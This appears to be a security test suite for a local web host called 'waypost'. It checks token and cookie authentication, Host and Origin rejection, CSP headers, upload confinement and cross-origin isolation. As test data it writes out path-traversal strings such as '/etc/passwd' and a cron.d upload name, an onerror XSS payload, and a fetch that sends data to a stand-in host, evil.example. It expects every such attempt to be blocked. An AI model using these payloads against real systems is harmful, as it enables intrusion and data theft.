/** Tries the wrong thing at the real web host. */
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { connect as connectSocket } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebSocket } from 'ws';
import { ask, connectTo, exchange } from './support/http.js';
import { startBrowser, startWebHostProcess, type WebHostProcess } from './support/index.js';

let folder = '';
let host: WebHostProcess;
let port = '';
let own: { Cookie: string; Origin: string };

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'waypost-web-'));
  host = await startWebHostProcess(folder);
  ({ port } = new URL(host.origin));
  own = { Cookie: `waypost-${port}=${host.token}`, Origin: host.origin };
});
afterAll(async () => {
  await host.close();
  await rm(folder, { recursive: true, force: true });
});

describe('a visitor', () => {
  it('gets nothing without the token', async () => {
    for (const path of ['/', '/index.html', '/assets/', '/upload', '/engine', '/?token=guess']) {
      const { status, text } = await ask(host.origin, path);
      expect([path, status]).toEqual([path, 401]);
      expect(text).not.toContain('<script');
    }
  });

  it('trades the token of the address for a cookie that scripts can’t read', async () => {
    const { status, headers } = await ask(host.origin, `/?token=${host.token}`);
    expect(status).toBe(303);
    expect(headers['location']).toBe('/');
    const [cookie] = [headers['set-cookie']].flat();
    expect(cookie).toBe(`waypost-${port}=${host.token}; HttpOnly; SameSite=Strict; Path=/`);
  });

  it('is refused under a foreign Host, even with the token', async () => {
    for (const name of ['evil.example', `evil.example:${port}`, '127.0.0.1', `127.0.0.1:${Number(port) + 1}`, `[::1]:${port}`]) {
      const { status } = await ask(host.origin, `/?token=${host.token}`, { headers: { Host: name, Cookie: own.Cookie } });
      expect([name, status]).toEqual([name, 421]);
    }
  });

  it('is refused from a foreign Origin, even with the cookie', async () => {
    for (const origin of ['https://evil.example', 'null', 'http://127.0.0.1:1', `https://127.0.0.1:${port}`]) {
      const { status } = await ask(host.origin, '/', { headers: { ...own, Origin: origin } });
      expect([origin, status]).toEqual([origin, 403]);
    }
  });

  it('reaches the server on the loopback address alone', async () => {
    const outside = Object.values(networkInterfaces())
      .flatMap((addresses) => addresses ?? [])
      .filter(({ internal, family }) => !internal && family === 'IPv4');
    for (const { address } of outside) {
      const outcome = await new Promise((resolve) => {
        const socket = connectSocket({ host: address, port: Number(port) });
        socket.once('connect', () => {
          socket.destroy();
          resolve('open');
        });
        socket.once('error', () => {
          resolve('refused');
        });
      });
      expect([address, outcome]).toEqual([address, 'refused']);
    }
  });

  it('finds no file but those of the interface', async () => {
    const ways = [
      '/../package.json',
      '/%2e%2e/package.json',
      '/..%2f..%2fpackage.json',
      '/assets/../../web/main.js',
      '/..%5c..%5cpackage.json',
      '//etc/passwd',
      '/etc/passwd',
      '/%00',
      '/%ff',
    ];
    for (const path of ways) {
      const { status, text } = await ask(host.origin, path, { headers: own });
      expect([path, status]).toEqual([path, 404]);
      expect(text).not.toMatch(/waypost"|root:/);
    }
  });

  it.each(['POST', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE'])('can’t %s anything', async (method) => {
    expect((await ask(host.origin, '/', { method, headers: own })).status).toBe(405);
  });

  it('gets pages with a strict policy', async () => {
    const { status, headers, text } = await ask(host.origin, '/', { headers: own });
    expect(status).toBe(200);
    expect(text).toContain('<div id="root">');
    expect(headers['content-security-policy']).toContain("default-src 'none'");
    expect(headers['content-security-policy']).toContain("script-src 'self';");
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cache-control': 'no-store',
    });
    expect(headers['access-control-allow-origin']).toBeUndefined();
  });
});

describe('a connection to the engine', () => {
  it.each<[string, number, () => Record<string, string>]>([
    ['no token', 401, () => ({ Origin: own.Origin })],
    ['a wrong token', 401, () => ({ ...own, Cookie: `waypost-${port}=guess` })],
    ['a foreign Origin', 403, () => ({ ...own, Origin: 'https://evil.example' })],
    ['no Origin', 403, () => ({ Cookie: own.Cookie })],
    ['a foreign Host', 421, () => ({ ...own, Host: `evil.example:${port}`, Origin: `http://evil.example:${port}` })],
  ])('is refused with %s', async (_what, status, headers) => {
    expect(await connectTo(host.origin, headers())).toBe(status);
  });

  it('is had nowhere else', async () => {
    expect(await connectTo(host.origin, own, '/')).toBe(404);
  });

  it('is given to the server’s own page, and survives calls of a wrong shape', async () => {
    const socket = await connectTo(host.origin, own);
    if (!(socket instanceof WebSocket)) throw new Error(`refused with ${socket}`);
    const good = { kind: 'call', id: 1, procedure: 'app.info', input: {} };
    expect(await exchange(socket, { ...good, procedure: 'process.exit' })).toMatchObject({
      kind: 'error',
      error: { code: 'badRequest' },
    });
    expect(await exchange(socket, { ...good, procedure: '__proto__' })).toMatchObject({
      kind: 'error',
      error: { code: 'badRequest' },
    });
    expect(await exchange(socket, { ...good, input: { evil: true } })).toMatchObject({
      kind: 'error',
      error: { code: 'badRequest' },
    });
    expect(await exchange(socket, { ...good, procedure: 'projects.open', input: { project: 1 } })).toMatchObject({
      error: { code: 'badRequest' },
    });
    expect(await exchange(socket, { ...good, sudo: true })).toMatchObject({ kind: 'error', error: { code: 'badRequest' } });
    socket.send(JSON.stringify('no request'));
    expect(await exchange(socket, good)).toMatchObject({ kind: 'result', id: 1, output: { host: 'web' } });
    await expect(exchange(socket, '{ no json')).rejects.toThrow('1003');
    const again = await connectTo(host.origin, own);
    expect(again).toBeInstanceOf(WebSocket);
    if (again instanceof WebSocket) again.close();
  });
});

describe('an upload', () => {
  const put = (name: string, headers: Record<string, string>, body = 'a,b\n1,2\n') =>
    ask(host.origin, `/upload?name=${encodeURIComponent(name)}`, { method: 'PUT', headers, body });

  it('needs the token and the server’s own Origin', async () => {
    expect((await put('a.csv', { Origin: own.Origin })).status).toBe(401);
    expect((await put('a.csv', { ...own, Origin: 'https://evil.example' })).status).toBe(403);
    expect((await put('a.csv', { Cookie: own.Cookie })).status).toBe(403);
    expect(await uploaded()).toEqual([]);
  });

  it('lands in its own folder under its own name, whatever it is called', async () => {
    for (const name of ['log.csv', '../../evil.csv', '/etc/cron.d/evil', '..\\evil.csv']) {
      const { status, text } = await put(name, own);
      expect(status).toBe(201);
      const { path } = JSON.parse(text) as { path: string };
      expect(path.startsWith(join(folder, 'uploads'))).toBe(true);
      expect(await readFile(path, 'utf8')).toBe('a,b\n1,2\n');
    }
    expect((await put('..', own)).status).toBe(400);
  });

  it('is gone when the host has ended', async () => {
    expect(await uploaded()).not.toEqual([]);
    await host.close();
    expect(await uploaded()).toEqual([]);
    host = await startWebHostProcess(folder);
    ({ port } = new URL(host.origin));
    own = { Cookie: `waypost-${port}=${host.token}`, Origin: host.origin };
  });

  async function uploaded(): Promise<string[]> {
    const entries = await readdir(join(folder, 'uploads'), { recursive: true, withFileTypes: true });
    return entries.filter((entry) => entry.isFile()).map((entry) => entry.name);
  }
});

describe('a foreign page in the same browser', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(() => browser.close());

  it('can neither read, nor frame, nor connect, nor upload, though the person is signed in', async () => {
    const context = await browser.newContext();
    const home = await context.newPage();
    await home.goto(host.url);
    const page = await context.newPage();
    await page.route('http://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<h1>Win a prize</h1>' }),
    );
    await page.goto('http://evil.example/');
    const attempts = await page.evaluate(async (origin) => {
      const fetched = (init: RequestInit, path = '/') =>
        fetch(origin + path, { credentials: 'include', ...init }).then(
          (answer) => String(answer.status),
          () => 'blocked',
        );
      const socket = new Promise<string>((resolve) => {
        const attempt = new window.WebSocket(`${origin.replace('http', 'ws')}/engine`);
        attempt.onopen = () => {
          resolve('open');
        };
        attempt.onerror = () => {
          resolve('blocked');
        };
      });
      const framed = new Promise<string>((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = origin;
        frame.onload = () => {
          resolve(frame.contentDocument === null ? 'opaque' : 'readable');
        };
        document.body.append(frame);
      });
      return {
        read: await fetched({}),
        upload: await fetched({ method: 'PUT', body: 'evil' }, '/upload?name=evil.csv'),
        socket: await socket,
        framed: await framed,
      };
    }, host.origin);
    expect(attempts).toEqual({ read: 'blocked', upload: 'blocked', socket: 'blocked', framed: 'opaque' });
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    expect(await framed?.locator('#root').count()).toBe(0);
    await context.close();
  });
});

describe('the page itself', () => {
  it('runs no script that is not a file of the server, and reaches nobody else', async () => {
    const browser = await startBrowser();
    const page = await browser.newPage();
    await page.goto(host.url);
    await page.locator('#root > *').first().waitFor({ state: 'attached' });
    const outcome = await page.evaluate(async () => {
      const inline = document.createElement('script');
      inline.textContent = 'window.wasRun = true';
      document.body.append(inline);
      const image = document.createElement('div');
      // eslint-disable-next-line no-restricted-syntax -- the wrong thing, on purpose
      image.innerHTML = '<img src="x" onerror="window.wasRun = true">';
      document.body.append(image);
      const evaluated = await new Promise<string>((resolve) => {
        // Later, because what the test itself runs is exempt from the policy.
        setTimeout(() => {
          try {
            // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- the same
            resolve(String(new Function('return 1')()));
          } catch {
            resolve('blocked');
          }
        });
      });
      const sent = await fetch('https://evil.example/', { method: 'POST', body: 'data' }).then(
        () => 'sent',
        () => 'blocked',
      );
      await new Promise((resolve) => {
        requestAnimationFrame(resolve);
      });
      return { wasRun: 'wasRun' in window, evaluated, sent, cookie: document.cookie };
    });
    expect(outcome).toEqual({ wasRun: false, evaluated: 'blocked', sent: 'blocked', cookie: '' });
    expect(page.url()).not.toContain('token');
    await browser.close();
  });
});
